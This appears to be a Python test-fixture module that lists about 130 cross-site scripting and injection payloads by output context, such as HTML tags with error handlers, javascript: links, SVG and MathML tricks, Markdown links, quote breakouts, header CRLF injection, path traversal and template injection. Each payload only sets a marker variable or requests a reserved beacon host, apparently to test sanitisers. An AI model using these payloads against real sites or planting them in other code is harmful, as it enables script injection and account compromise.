"""Texts that come to life where an output does not take them for text."""

from __future__ import annotations

from enum import StrEnum

import attrs

BEACON = "https://beacon.example/"
"""What the addresses begin with that a payload makes a page ask for; nobody has the host (RFC 2606)."""


class Context(StrEnum):
    """Where a payload comes to life if it stands there as it is."""

    HTML = "html"
    """Between tags."""
    ESCAPED = "escaped"
    """Between tags, after entities were decoded as often as it takes."""
    ATTRIBUTE = "attribute"
    """In the value of an attribute, between quotes of one kind or the other."""
    LINK = "link"
    """In an address that somebody follows."""
    STYLE = "style"
    """In a style sheet."""
    SCRIPT = "script"
    """In a text of a script, between quotes of one kind or another."""
    AUTOLINK = "autolink"
    """In a text whose addresses are made links, after it was escaped."""
    MARKDOWN = "markdown"
    """In a text that is read as Markdown by a reader that lets everything through."""
    TEXT = "text"
    """Nowhere: it runs nothing, but what is shown may lie, or the output be broken."""


@attrs.frozen(kw_only=True)
class Payload:
    """A text that calls for attention where it comes to life: it sets ``window.__ran``, or asks for a `BEACON`.

    Attributes:
        name: What it is.
        number: What ``window.__ran`` becomes, and what follows the `BEACON`.
        context: Where it would come to life.
        text: The text.
    """

    name: str
    number: int
    context: Context
    text: str


# RUN stands for the script, BEACON for the address.
_TABLE = {
    Context.HTML: {
        "script": "<script>RUN</script>",
        "script of a file": "<script src=BEACON></script>",
        "script, capitals": "<ScRiPt>RUN</sCrIpT>",
        "module": "<script type=module>import 'BEACON'</script>",
        "image that fails": "<img src=x onerror=RUN>",
        "image that fails, slashes": "<img/src/onerror=RUN>",
        "image without an end": "<img src=x onerror=RUN ",
        "image, NUL in a tag": "<im\0g src=x onerror=RUN><img src\0=x onerror=RUN>",
        "image of elsewhere": "<img src=BEACON>",
        "images of elsewhere": "<img srcset='BEACON 1x'>",
        "picture": "<picture><source srcset=BEACON><img></picture>",
        "film": "<video poster=BEACON><source src=x onerror=RUN></video>",
        "recording": "<audio autoplay src=BEACON></audio>",
        "svg": "<svg onload=RUN></svg>",
        "svg, script": "<svg><script>RUN</script></svg>",
        "svg, animation": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "svg, animated link": (
            "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>"
        ),
        "svg, foreign object": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
        "svg, image": "<svg><image href=BEACON></image></svg>",
        "svg, use": "<svg><use href='BEACON#x'></use><set onbegin=RUN attributeName=x></svg>",
        "mathml": "<math href=javascript:RUN><mtext>x</mtext></math><math><mi><img src=x onerror=RUN></mi></math>",
        "mathml, hidden in a title": (
            "<math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;img src=x onerror=RUN&gt;"></table></math><img src=x onerror=RUN>'
        ),
        "frame of a text": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
        "frame of a script": "<iframe src=javascript:parent.RUN></iframe>",
        "frame of elsewhere": "<iframe src=BEACON></iframe>",
        "object": "<object data=BEACON></object>",
        "embedded": "<embed src=BEACON>",
        "base": "<base href='BEACON/'><img src=relative>",
        "refresh": '<meta http-equiv=refresh content="0;url=BEACON">',
        "style sheet of elsewhere": "<link rel=stylesheet href=BEACON>",
        "style that imports": "<style>@import 'BEACON';</style>",
        "style attribute": "<div style='background:url(BEACON)'>x</div>",
        "style with an animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>x</b>",
        "link to a script": "<a href=javascript:RUN>x</a>",
        "link to a script, entities": "<a href='&#106;ava&Tab;script&colon;RUN'>x</a>",
        "form": "<form action=javascript:RUN><button>x</button></form>",
        "button": "<form id=f></form><button form=f formaction=javascript:RUN>x</button>",
        "field with the focus": "<input autofocus onfocus=RUN>",
        "details": "<details open ontoggle=RUN><summary>x</summary></details>",
        "body": "<body onpageshow=RUN onload=RUN>",
        "end of a comment": "--><img src=x onerror=RUN>",
        "begin of a comment": "<!--><img src=x onerror=RUN>-->",
        "character data": "]]><img src=x onerror=RUN>",
        "end of a title": "</title><img src=x onerror=RUN>",
        "end of a text area": "</textarea><img src=x onerror=RUN>",
        "end of noscript": "</noscript><img src=x onerror=RUN>",
        "end of a template": "</template><img src=x onerror=RUN>",
        "end of a style": "</style><img src=x onerror=RUN>",
        "end of a script": "</script><script>RUN</script>",
        "end of a script, and of what it holds": '"}]</script><script>RUN</script>',
    },
    Context.ESCAPED: {
        "escaped once": "&lt;img src=x onerror=RUN&gt;",
        "escaped twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
        "escaped by numbers": "&#60;img src=x onerror=RUN&#x3e;",
    },
    Context.ATTRIBUTE: {
        "end of a double quote": '"><img src=x onerror=RUN>',
        "end of a single quote": "'><img src=x onerror=RUN>",
        "handler after a double quote": '" autofocus tabindex=1 onfocus="RUN',
        "handler after a single quote": "' autofocus tabindex=1 onfocus='RUN",
        "handler in the address of a file": "https://x.example/x.pdf' onload='RUN' autofocus tabindex=1 onfocus='RUN",
        "handler in the address of an image": 'https://x.example/x.png" onerror="RUN" tabindex=1 onfocus="RUN',
        "handler in the address of a drive": "https://drive.google.com/file/d/x' onload='RUN' tabindex=1 onfocus='RUN",
        "handler in the address of a clip": "https://vine.co/v/x' onload='RUN' tabindex=1 onfocus='RUN",
    },
    Context.LINK: {
        "javascript": "javascript:RUN",
        "javascript, capitals": "JaVaScRiPt:RUN",
        "javascript, tab": "java\tscript:RUN",
        "javascript, new line": "java\nscript:RUN",
        "javascript, space before": " javascript:RUN",
        "javascript, control character before": "\x01javascript:RUN",
        "javascript, as if of a host": "javascript://x.example/%0ARUN",
        "javascript, as if of an image": "javascript:RUN//.png",
    },
    Context.STYLE: {
        "rule": "x;}*{background:url(BEACON)}",
        "import": "@import url(BEACON);",
        "style that ends": "</style><img src=x onerror=RUN>",
    },
    Context.SCRIPT: {
        "end of a double-quoted text": '";RUN//',
        "end of a single-quoted text": "';RUN//",
        "template literal": "${RUN}",
        "end of a template literal": "`;RUN//",
        "end of a backslash": '\\";RUN//',
    },
    Context.AUTOLINK: {
        "address of the web": "http://x.example/'tabindex='1'onfocus='RUN'autofocus='",
        "address without a scheme": "www.x/'tabindex='1'onfocus='RUN'autofocus='",
        "address of the web, double quotes": 'http://x.example/"tabindex="1"onfocus="RUN"autofocus="',
    },
    Context.MARKDOWN: {
        "Markdown, link": "[x](javascript:RUN)",
        "Markdown, link, capitals": "[x](JaVaScRiPt:RUN)",
        "Markdown, link in brackets": "[x](<javascript:RUN>)",
        "Markdown, link with entities": "[x](&#106;avascript&colon;RUN)",
        "Markdown, reference": "[x][1]\n\n[1]: javascript:RUN",
        "Markdown, automatic link": "<javascript:RUN>",
        "Markdown, link to data": "[x](data:text/html,<script>RUN</script>)",
        "Markdown, image": "![x](BEACON)",
        "Markdown, image by reference": "![x][1]\n\n[1]: BEACON",
        "Markdown, image in a link": "[![x](BEACON)](javascript:RUN)",
        "Markdown, HTML": "Text\n\n<div><img src=x onerror=RUN></div>\n\ntext",
        "Markdown, HTML in a line": 'Text <img src=x onerror="RUN"> *text*',
        "Markdown, HTML in a link": '[<img src=x onerror="RUN">](https://x.example/)',
    },
    Context.TEXT: {
        "vbscript": "vbscript:RUN",
        "data": "data:text/html,<script>parent.RUN</script>",
        "address without a scheme of its own": "//beacon.example/NUMBER",
        "address with a name": "https://x.example@beacon.example/NUMBER",
        "address that is none": "https://[x/NUMBER",
        "javascript, entities": "&#106;avascript&colon;RUN",
        "expression": "width:expression(RUN)",
        "Markdown, title of a link": '[x](https://x.example/ "x\\" autofocus tabindex=1 onfocus=RUN")',
        "Markdown, quote in a link": "[x](https://x.example/\"tabindex='1'onfocus='RUN)",
        "Markdown, fence": '```x" onclick="RUN\n<img src=x onerror=RUN>\n```',
        "names of elements": "<form id=clobbered name=clobbered><input name=children><input name=id></form>",
        "line separator": "x\N{LINE SEPARATOR}RUN\N{PARAGRAPH SEPARATOR}x",
        "script within a comment": "<!--<script>",
        "template of the server": "{{ 7*7 }}{% raw %}{# x #}",
        "places of a label": "{date} {event} {text} {n} {0} %s %(x)s $& $1",
        "way out of a folder": "../../../x",
        "template of the page": "{{constructor.constructor('RUN')()}}",
        "name of everything's prototype": "__proto__",
        "end of a value": '"}],"x":[{"',
        "line of a header": "x\r\nX-Injected: 1\r\n\r\n<script>RUN</script>",
        "from right to left": "x \N{RIGHT-TO-LEFT OVERRIDE}gnp.exe \N{LEFT-TO-RIGHT ISOLATE}x",
        "commands of a terminal": "x\x1b]0;x\x07\x1b[31mx\b\x7f\x9b1mx",
        "NUL": "x\0x",
        "no character": "x\ufffex\uffff",
        "byte order mark": "\ufeffx",
    },
}


def _payload(number: int, context: Context, name: str, text: str) -> Payload:
    for word, value in (("RUN", f"window.__ran={number}"), ("BEACON", f"{BEACON}{number}"), ("NUMBER", str(number))):
        text = text.replace(word, value)
    return Payload(name=name, number=number, context=context, text=text)


_ROWS = [(context, name, text) for context, texts in _TABLE.items() for name, text in texts.items()]
PAYLOADS = tuple(_payload(number, *row) for number, row in enumerate(_ROWS, start=1))
"""Texts that come to life where an output does not take them for text."""
